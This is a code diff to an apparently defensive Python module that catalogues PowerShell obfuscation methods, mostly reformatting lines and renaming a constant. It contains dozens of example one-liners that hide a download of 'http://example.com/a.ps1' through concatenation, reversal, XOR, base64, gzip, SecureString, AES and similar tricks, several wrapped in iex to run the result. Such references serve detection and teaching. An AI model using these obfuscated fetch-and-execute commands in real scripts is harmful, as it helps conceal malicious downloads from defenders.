@@ -6,7 +6,7 @@ from vedette.commands.base import Method
 from vedette.schema.command import Language
 
 _URL = "http://example.com/a.ps1"
-_SECRET = (
+_LOCKED = (
     "76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwA"
     "YgBkADkAMABmADMAYwA3ADUANQAxADcANAAyADAAMQBlAGEAMwBjAGEANwA1ADkAMAA4ADIAZgA1ADYAOQBhAGQANQAwADMAYgAzAGUAM"
     "wA0ADcAMwAxADQAMgBhADUAZgBlAGEAOAA0ADMANgAyAGQAOQBmAGQANQA2ADYAYwA2ADUANgAxAGUAYQBhADcAMwBmADEAYwA4ADMAZQ"
@@ -23,12 +23,15 @@ def _method(id_: str, title: str, example: str, shows: str = _URL, note: str = "
 METHODS: tuple[Method, ...] = (
     _method("concatenation", "Text in pieces that are joined", "iwr ('ht'+'tp://exam'+'ple.com/a.ps1')"),
     _method("format-operator", "Pieces put in order by a format", "iwr ('{2}{0}{1}' -f 'p://example.com','/a.ps1','htt')"),
-    _method("replace", "Foreign text that is replaced", "iwr ('hXXp://example.cZm/a.ps1'.Replace('X','t') -replace 'Z','o')"),
+    _method("replace", "Foreign text that is replaced",
+            "iwr ('hXXp://example.cZm/a.ps1'.Replace('X','t') -replace 'Z','o')"),
     _method("split", "Text taken apart at foreign characters",
             "iwr (-join ('http~://exa#mple.com/~a.ps1' -split '~|#'))"),
     _method("join", "An array joined to a text", "iwr ('http:','','example.com','a.ps1' -join '/')"),
     _method("reverse", "Text written backwards", "$s='1sp.a/moc.elpmaxe//:ptth'; iwr (-join $s[-1..-($s.Length)])"),
-    _method("index-pick", "Characters picked by their place", "iwr ('ac1ot:e/lxh.psm '[10,4,4,12,5,7,7,6,9,0,14,12,8,6,11,1,3,14,7,0,11,12,13,2]-join'')",
+    _method("index-pick", "Characters picked by their place",
+            "iwr ('ac1ot:e/lxh.psm '[10,4,4,12,5,7,7,6,9,0,14,12,8,6,"
+            "11,1,3,14,7,0,11,12,13,2]-join'')",
             note="the places may be in any order"),
     _method("substring", "Parts cut out of a longer text",
             "iwr ('zzhttp://example.com/a.ps1zz'.Substring(2,24))"),
@@ -60,11 +63,13 @@ METHODS: tuple[Method, ...] = (
     _method("octal", "Characters by octal numbers",
             "iex (-join('151,167,162,40,141'.Split(',')|%{[char][Convert]::ToInt16($_,8)}))", "iwr a"),
     _method("binary-digits", "Characters by binary numbers",
-            "iex (-join('1101001 1110111 1110010 100000 1100001' -split ' '|%{[char][Convert]::ToInt16($_,2)}))", "iwr a"),
+            "iex (-join('1101001 1110111 1110010 100000 1100001' -split ' '|%{[char][Convert]::ToInt16($_,2)}))",
+            "iwr a"),
     _method("xor", "Exclusive or with a key", "iex (-join(34,60,57,107,42|%{[char]($_ -bxor 75)}))", "iwr a"),
     _method("bit-arithmetic", "Arithmetic on bits", "iex (-join(-106,-120,-115,-33,-98|%{[char](-bnot $_)}))", "iwr a"),
     _method("base64", "Base64",
-            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHA6Ly9leGFtcGxlLmNvbS9hLnBzMQ==')))"),
+            "iex ([Text.Encoding]::UTF8.GetString("
+            "[Convert]::FromBase64String('aXdyIGh0dHA6Ly9leGFtcGxlLmNvbS9hLnBzMQ==')))"),
     _method("gzip", "Compressed with gzip",
             "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream]"
             "[Convert]::FromBase64String('H4sIAAAAAAACA8ssL1LIKCkpsNLXT61IzC3ISdVLzs/VT9QrKDYEAHtTYmgcAAAA'),"
@@ -73,10 +78,11 @@ METHODS: tuple[Method, ...] = (
             "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
             "[Convert]::FromBase64String('yywvUsgoKSmw0tdPrUjMLchJ1UvOz9VP1CsoNgQA'),"
             "[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"),
-    _method("securestring", "A secure string with its key", f"$s='{_SECRET}'|ConvertTo-SecureString -Key (1..16);"
+    _method("securestring", "A secure string with its key", f"$s='{_LOCKED}'|ConvertTo-SecureString -Key (1..16);"
             "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto("
             "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))"),
-    _method("aes", "Encrypted with AES", "$d=[Convert]::FromBase64String('AAECAwQFBgcICQoLDA0ODwnc0/Kmnbzy3pZzcCZFVbF58kpNYf2GgkWawQvpv2XE');"
+    _method("aes", "Encrypted with AES",
+            "$d=[Convert]::FromBase64String('AAECAwQFBgcICQoLDA0ODwnc0/Kmnbzy3pZzcCZFVbF58kpNYf2GgkWawQvpv2XE');"
             "$a=New-Object Security.Cryptography.AesManaged;$a.Key=1..16;$a.IV=$d[0..15];"
             "iex ([Text.Encoding]::UTF8.GetString($a.CreateDecryptor().TransformFinalBlock($d,16,$d.Length-16)))"),
     _method("regex-match", "Text read backwards or in parts by a regex",
